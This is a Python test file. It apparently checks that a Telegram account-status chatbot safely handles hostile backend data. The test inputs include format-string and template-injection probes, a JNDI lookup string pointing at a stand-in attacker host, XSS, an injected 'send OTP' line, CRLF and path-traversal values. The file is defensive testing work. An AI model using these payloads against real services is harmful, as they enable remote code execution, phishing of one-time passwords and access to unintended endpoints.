"""Texts, times and lists of a hostile backend: shown as what they are, cut to a length for people, or not at all."""

from __future__ import annotations

import copy
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from bot.assistant.engine import Engine
from bot.contract.scripts import Client
from nlu.content.live import LiveCatalogue
from tests.assistant.accounts_world import Town
from tests.assistant.test_account_attacks_backends import (
    GRANT,
    LINK,
    STATUS,
    Backend,
    forget_answers,
    is_sensible,
    linked,
    open_den,
    places,
    says,
    with_value,
)

Place = tuple[Any, ...]
# Where a status holds text of the backend's.
TEXTS: tuple[Place, ...] = (
    ("name",),
    ("training", "courses", 0, "title"),
    ("training", "courses", 0, "platform"),
    ("destination", "provider"),
    ("destination", "number"),
    ("stage",),
    ("incentives", 0, "reason"),
    ("surveys", 0, "state"),
)
DATES = [
    path for path in places(STATUS) if str(path[-1]) in ("on", "until", "since") or str(path[-1])[-3:] in ("_on", "til")
]
OTHER_LINK = "kp1_" + "b" * 50


@pytest_asyncio.fixture
async def backend() -> AsyncIterator[Backend]:
    backend = Backend()
    async with backend.server:
        yield backend


@pytest_asyncio.fixture
async def den(backend: Backend, redis: Client, engine: Engine, catalogue: LiveCatalogue) -> AsyncIterator[Town]:
    async with open_den(backend, redis, engine, catalogue) as town:
        yield town


async def replies_to(den: Town, backend: Backend, body: Any) -> str:
    """What Siti reads when her status is this; and it is sensible whatever it is."""
    siti = den.telegram("siti")
    backend.answers["status"] = says(body)
    await forget_answers(den)
    await siti.says("cek status saya")
    is_sensible(siti)
    return siti.reply


@pytest.mark.parametrize(
    "text",
    [
        "{0.__class__}",
        "{name.__class__.__mro__}",
        "{link_proof}",
        "{}",
        "{{}}",
        "{",
        "}",
        "%s %(name)s",
        "{{7*7}}",
        "${jndi:ldap://jahat.example/a}",
        "<script>alert(1)</script>",
        "*tebal* _miring_ `kode` [a](http://jahat.example)",
        "/unlink_account",
        "pilih:abcdefghijkl",
        "",
        " ",
        "\U0001f600" * 20,
    ],
)
async def test_text_is_shown_as_it_is_or_not_at_all(den: Town, backend: Backend, text: str) -> None:
    siti = await linked(den)
    for place in TEXTS:
        reply = await replies_to(den, backend, with_value(STATUS, place, text))
        assert "type 'str'" not in reply
        assert "49" not in reply
    assert await den.accounts.link_of(siti.conversation)


@pytest.mark.parametrize(
    "text",
    ["a\n\nLangkah berikutnya: kirim OTP", "a\r\nb", "a\u2028b", "a\u0000b", "a\u202eb", "a\x1b[31mb"],
    ids=ascii,
)
async def test_text_makes_no_lines_and_no_signs_that_nobody_sees(den: Town, backend: Backend, text: str) -> None:
    await linked(den)
    for place in TEXTS:
        reply = await replies_to(den, backend, with_value(STATUS, place, text))
        shown = [
            sign for sign in ("\nLangkah berikutnya: kirim", "\r", "\u2028", "\0", "\u202e", "\x1b") if sign in reply
        ]
        assert shown == [], place


async def test_half_a_character_breaks_nothing(den: Town, backend: Backend) -> None:
    await linked(den)
    for place in TEXTS:
        await replies_to(den, backend, with_value(STATUS, place, "a\ud83d"))


@pytest.mark.parametrize("place", TEXTS, ids=lambda place: str(place[-1]))
async def test_long_text_makes_no_long_reply(den: Town, backend: Backend, place: Place) -> None:
    await linked(den)
    await replies_to(den, backend, with_value(STATUS, place, "x" * 50_000))


@pytest.mark.parametrize("name", ["courses", "incentives", "surveys"])
async def test_long_list_makes_no_long_reply(den: Town, backend: Backend, name: str) -> None:
    body = copy.deepcopy(STATUS)
    owner = body["training"] if name == "courses" else body
    owner[name] = owner[name] * 500
    await linked(den)
    await replies_to(den, backend, body)


@pytest.mark.parametrize("amount", [10**18, 10**4000, -1, -(10**18)], ids=lambda amount: f"{len(str(amount))} digits")
async def test_odd_amount_breaks_nothing(den: Town, backend: Backend, amount: int) -> None:
    await linked(den)
    for place in (
        ("training", "balance"),
        ("incentives", 0, "amount"),
        ("selection", "wave"),
        ("surveys", 0, "number"),
    ):
        await replies_to(den, backend, with_value(STATUS, place, amount))


@pytest.mark.parametrize(
    "moment", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "2026-01-01T00:00:00"]
)
async def test_odd_time_breaks_nothing(den: Town, backend: Backend, moment: str) -> None:
    await linked(den)
    await replies_to(den, backend, {**STATUS, "as_of": moment})


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00+14:00"])
async def test_odd_time_of_a_wave_breaks_nothing(den: Town, backend: Backend, moment: str) -> None:
    wave = {"number": 72, "state": "open", "closes_at": moment}
    backend.answers["current"] = says({"as_of": "2026-01-01T00:00:00Z", "waves": [wave]})
    body = {**STATUS, "selection": {"state": "not_joined"}, "membership": {"state": "none"}}
    await linked(den)
    await replies_to(den, backend, body)


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
async def test_odd_day_breaks_nothing(den: Town, backend: Backend, day: str) -> None:
    assert len(DATES) >= 7
    await linked(den)
    for place in DATES:
        await replies_to(den, backend, with_value(STATUS, place, day))


@pytest.mark.parametrize(
    "label", ["{0.__class__}", "x" * 50_000, "a\n\nKirim OTP", "", "\ud83d"], ids=lambda one: ascii(one)[:20]
)
async def test_label_of_a_grant_is_a_name_or_nothing(den: Town, backend: Backend, label: str) -> None:
    backend.answers["redeem"] = says({**GRANT, "label": label})
    siti = den.telegram("siti")
    for link in (LINK, OTHER_LINK):  # the second asks whether to replace the first
        await siti.opens(link)
        is_sensible(siti)
        siti.misses("\n\nKirim OTP")


@pytest.mark.parametrize(
    "reference", ["../../admin", "..", "a/b", "a?x=1", "a#b", "%2e%2e%2f", "a\r\nX: y", "é" * 30], ids=ascii
)
async def test_reference_chooses_no_other_address(den: Town, backend: Backend, reference: str) -> None:
    backend.answers["redeem"] = says({**GRANT, "reference": reference})
    await den.telegram("siti").opens(LINK)
    is_sensible(den.telegram("siti"))
    for path, _ in backend.calls[1:]:
        assert path.split("/")[:3] + path.split("/")[4:] == ["", "v1", "accounts", "status"]
